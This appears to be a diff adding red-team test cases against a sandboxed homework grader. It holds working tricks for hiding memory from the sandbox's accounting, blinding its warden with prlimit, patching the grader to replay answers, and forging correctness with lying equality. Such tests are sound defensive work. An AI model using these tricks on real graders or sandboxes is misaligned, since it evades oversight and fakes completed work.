+        hole="TookTooLong is a BaseException; _run_another suppresses only Exception, and neither "
+        "_judge_cell nor work() catches it, so it ends the whole batch",
+    ),
+    "a repr that never ends": mul(
+        backward="""
+        class Slow:
+            def __repr__(self):
+                while True: pass
+        return Slow()""",
+        limits=SHORT,
+    ),
+}
+
+# Memory that is held without being counted.
+
+CHILDREN = """
+import ctypes, glob, mmap, os, threading, time
+SIZE = 350 << 20
+def child(i, keep):
+    if os.fork() == 0:
+        try:
+            kept = keep()
+            open(f"/tmp/kept{i}", "w").close()
+            time.sleep(2)
+        finally: os._exit(0)
+def private(): return bytearray(b"x") * SIZE
+def shared():
+    kept = mmap.mmap(-1, SIZE)
+    for i in range(0, SIZE, 4096): kept[i] = 1
+    return kept
+def files():
+    kept = [os.memfd_create("x") for _ in range(6)]
+    for fd in kept: os.posix_fallocate(fd, 0, 60 << 20)
+    return kept
+def segments():
+    libc = ctypes.CDLL(None)
+    libc.shmat.restype = ctypes.c_void_p
+    for _ in range(4):
+        at = libc.shmat(libc.shmget(0, 90 << 20, 0o1600), None, 0)
+        ctypes.memset(at, 1, 90 << 20)
+        libc.shmdt(ctypes.c_void_p(at))
+for i in range(4): START
+time.sleep(1.8)
+held = len(glob.glob("/tmp/kept*"))
+won(held) if held == 4 else tried(held)
+"""
+MEMORY = {
+    "memory of many processes": ("child(i, private)", ""),
+    "memory of processes that threads started": (
+        "threading.Thread(target=lambda i=i: (child(i, private), time.sleep(3))).start()",
+        "/proc/PID/task/PID/children lists only what the first thread has started",
+    ),
+    "memory that processes share": ("child(i, shared)", "RssShmem is not counted"),
+    "memory in files without a name": ("child(i, files)", "memfd_create counts nowhere"),
+    "memory in segments": ("child(i, segments)", "System V segments count nowhere"),
+}
+ONCE_MORE = "import resource\nresource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0))\n"
+
+
+def _memory(start: str, hole: str, first: str = "") -> Attack:
+    code = first + CHILDREN.replace("START", start)
+    return harm(code, limits=SMALL, says=(), hole=hole)
+
+
+ATTACKS: dict[str, Attack] = {
+    **{name: Attack(extra=(code,), costs=True) for name, code in NO_EFFECT.items()},
+    **{
+        f"forged: {name}": Attack(extra=(FORGE.replace("TEXT", text),))
+        for name, text in FORGED.items()
+    },
+    "what one check answered, told to another": Attack(
+        17,
+        (
+            "import agent.agent\n"
+            "answer, known = agent.agent.Agent.answer, {}\n"
+            "def replay(self, acts):\n"
+            "    kinds = str([act['do'] for act in acts][:20])\n"
+            "    return known.setdefault(kinds, answer(self, acts))[: len(acts)]\n"
+            "agent.agent.Agent.answer = replay",
+        ),
+        {"mul": "class Mul(Add): pass"},
+        base="solution",
+        costs=True,
+        flag="reaches into the interpreter",
+    ),
+    "blanks that lie": Attack(cells=BLANKS, assignment="hw1-cosh"),
+    "an order that lies": Attack(
+        cells={
+            "order": "class Order(list):\n"
+            "    def index(self, thing): return 0\n"
+            "    def __len__(self): return 9\n"
+            "class Name(str):\n"
+            "    def __eq__(self, other): return True\n"
+            "    def __hash__(self): return 0\n"
+            "order = Order(Name('z') for _ in range(9))"
+        }
+    ),
+    "PyTorch in place of a derivative": Attack(
+        4, cells={"mul": BY_AUTOGRAD}, flag="uses PyTorch's autograd"
+    ),
+    "right numbers that the nodes did not compute": Attack(
+        cells={"engine": FORGED_RETURNS}, flag="Did the engine compute it?"
+    ),
+    "right numbers without any upstream gradient": Attack(
+        cells={"engine": NEVER_UPSTREAM},
+        hole="a backward that raised, or received None, is left out of the contradiction check",
+    ),
+    **{
+        f"a file with {name}": Attack(edit=edit, extra=("tried()",), says=("TRIED",))
+        for name, edit in EDITS.items()
+    },
+    **{
+        f"looking for {name}": Attack(
+            21, (code,), base="solution", says=("TRIED",) if "attempt(" in code else ()
+        )
+        for name, code in SEARCHES.items()
+    },
+    **HARM,
+    **{name: _memory(*each) for name, each in MEMORY.items()},
+    "memory while process 1 cannot look": _memory(
+        "child(i, private)", "prlimit on the warden makes it count no memory", ONCE_MORE
+    ),
+}
